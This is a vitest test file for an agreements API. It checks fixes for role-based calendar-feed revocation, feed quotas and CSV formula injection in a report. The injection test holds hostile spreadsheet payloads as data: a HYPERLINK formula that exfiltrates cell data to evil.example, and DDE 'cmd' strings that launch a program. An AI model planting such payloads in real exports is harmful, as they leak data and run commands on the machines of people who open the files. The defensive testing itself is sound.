import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { neutraliseCell, writeCsv } from "../../src/http/csv";
import {
  createTestApp,
  LTU,
  NOK,
  type Role,
  signedAgreement,
  type TestApp,
} from "../support/test-app";

// The smaller holes of issue #17 (item 8) and the re-probe's slips of issue #18 (item 8), one test
// per finding, named after it. Each failed on the code before and passes now.

let t: TestApp;
let id: string;
beforeAll(async () => {
  t = await createTestApp();
  id = await signedAgreement(t);
});
afterAll(() => t.close());

/** One named person: feeds and other personal things are told apart by the token's `sub`. */
const person = (org: typeof LTU, roles: Role[], sub: string) => {
  const token = t.token(org, roles, sub);
  return {
    call: async (method: string, path: string, body?: unknown, headers?: Record<string, string>) =>
      t.call(method, path, {
        token: await token,
        ...(body === undefined ? {} : { body }),
        ...(headers ? { headers } : {}),
      }),
  };
};

describe("finding: a viewer can create feeds and revoke a coordinator's feed (#17)", () => {
  it("finding: a viewer can revoke a coordinator's feed — D-36 only its maker or a coordinator of its organisation revokes it", async () => {
    const letter = await signedAgreement(t);
    const feeds = `/v1/agreements/${letter}/calendar-feeds`;
    const coordinator = person(LTU, ["coordinator"], "ltu-coordinator");
    const viewer = person(LTU, ["viewer"], "ltu-viewer");
    const otherViewer = person(LTU, ["viewer"], "ltu-viewer-2");
    const coordinatorsFeed = await coordinator.call("POST", feeds);
    expect(coordinatorsFeed.status).toBe(201);
    const viewersFeed = await viewer.call("POST", feeds);
    expect(viewersFeed.status).toBe(201);

    // A viewer can neither revoke the coordinator's feed nor another viewer's.
    const refused = await viewer.call("DELETE", `${feeds}/${coordinatorsFeed.json.id}`);
    expect(refused.status).toBe(403);
    expect(refused.json.code).toBe("not-own-feed");
    expect((await otherViewer.call("DELETE", `${feeds}/${viewersFeed.json.id}`)).status).toBe(403);
    expect((await t.call("GET", coordinatorsFeed.json.url)).status).toBe(200);
    expect((await t.call("GET", viewersFeed.json.url)).status).toBe(200);

    // A viewer lists only their own; a coordinator the organisation's, and may revoke any of them.
    const own = await viewer.call("GET", feeds);
    expect(own.json.items.map((f: { id: string }) => f.id)).toEqual([viewersFeed.json.id]);
    const all = await coordinator.call("GET", feeds);
    expect(all.json.items.map((f: { id: string }) => f.id).sort()).toEqual(
      [coordinatorsFeed.json.id, viewersFeed.json.id].sort(),
    );
    expect((await coordinator.call("DELETE", `${feeds}/${viewersFeed.json.id}`)).status).toBe(204);
    expect((await t.call("GET", viewersFeed.json.url)).status).toBe(404);

    // A coordinator of another organisation may not revoke LTU's feed.
    const nokCoordinator = person(NOK, ["coordinator"], "nok-coordinator");
    expect(
      (await nokCoordinator.call("DELETE", `${feeds}/${coordinatorsFeed.json.id}`)).status,
    ).toBe(403);
    // The maker revokes their own.
    expect((await coordinator.call("DELETE", `${feeds}/${coordinatorsFeed.json.id}`)).status).toBe(
      204,
    );
  });

  it("finding: a viewer can fill the organisation's quota so the coordinator gets 400 — D-36 at most 3 per person, the last 3 of 10 kept for coordinators", async () => {
    const letter = await signedAgreement(t);
    const feeds = `/v1/agreements/${letter}/calendar-feeds`;
    const viewer = person(LTU, ["viewer"], "greedy-viewer");
    const made = [];
    for (let i = 0; i < 4; i++) made.push(await viewer.call("POST", feeds));
    expect(made.map((r) => r.status)).toEqual([201, 201, 201, 400]);
    expect(made[3]?.json.code).toBe("too-many-own-calendar-feeds");
    // A revoked feed frees its maker's place.
    expect((await viewer.call("DELETE", `${feeds}/${made[0]?.json.id}`)).status).toBe(204);
    expect((await viewer.call("POST", feeds)).status).toBe(201);

    // Viewers together reach 7 of the organisation's 10; the 8th viewer feed is refused …
    for (const sub of ["viewer-b", "viewer-c"])
      for (let i = 0; i < (sub === "viewer-b" ? 3 : 1); i++)
        expect((await person(LTU, ["viewer"], sub).call("POST", feeds)).status).toBe(201);
    const eighth = await person(LTU, ["viewer"], "viewer-d").call("POST", feeds);
    expect(eighth.status).toBe(400);
    expect(eighth.json.code).toBe("too-many-calendar-feeds");
    // … and a coordinator still has room for their own 3.
    const coordinator = person(LTU, ["coordinator"], "ltu-coordinator");
    for (let i = 0; i < 3; i++) expect((await coordinator.call("POST", feeds)).status).toBe(201);
    // The organisation's 10 are now all taken: its next coordinator is refused too.
    const full = await person(LTU, ["coordinator"], "ltu-coordinator-2").call("POST", feeds);
    expect(full.status).toBe(400);
    expect(full.json.code).toBe("too-many-calendar-feeds");
  });
});

describe("finding: formula injection in the report CSV (#17)", () => {
  it("finding: formula injection in the report CSV — R24 a cell of user text that begins with =, +, -, @, tab or CR is written with a leading quote", async () => {
    const letter = await signedAgreement(t);
    const ltu = t.as(LTU, ["coordinator"]);
    const hostile = [
      '=HYPERLINK("https://evil.example/?d="&A1,"Klicka")',
      "+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
    ];
    for (const funder of hostile) {
      const res = await ltu.post(`/v1/agreements/${letter}/funding-applications`, {
        funder,
        call: "=1+1",
        submissionDeadline: "2027-03-01",
        amountRequestedSek: 100_000,
        applicantParties: [LTU.orgNumber, NOK.orgNumber],
      });
      expect(res.status, funder).toBe(201);
    }
    const csv = await ltu.get(`/v1/agreements/${letter}/reports/follow-up?year=2026`, {
      accept: "text/csv",
    });
    expect(csv.status).toBe(200);
    const cells = csv.text
      .split("\r\n")
      .flatMap((line: string) => line.split(";"))
      .map((cell: string) => cell.replace(/^"(.*)"$/s, "$1").replaceAll('""', '"'));
    // No cell begins a formula; each hostile text is there, behind a quote.
    expect(cells.filter((cell: string) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    for (const funder of hostile) expect(cells).toContain(`'${funder}`);
    expect(cells).toContain("'=1+1");
  });

  it("finding: formula injection in the report CSV — R24 numbers the API computes stay numbers, negative ones included; text that looks like one is quoted", () => {
    expect(neutraliseCell(-5)).toBe(-5);
    expect(neutraliseCell(0)).toBe(0);
    expect(neutraliseCell("-5")).toBe("'-5");
    expect(neutraliseCell("\tx")).toBe("'\tx");
    expect(neutraliseCell("\rx")).toBe("'\rx");
    expect(neutraliseCell("2026-01-01")).toBe("2026-01-01");
    expect(neutraliseCell("Vinnova")).toBe("Vinnova");
    expect(neutraliseCell(undefined)).toBe("");
    expect(writeCsv([["days", -3, "-3", "=A1"]])).toBe("days;-3;'-3;'=A1\r\n");
  });
});
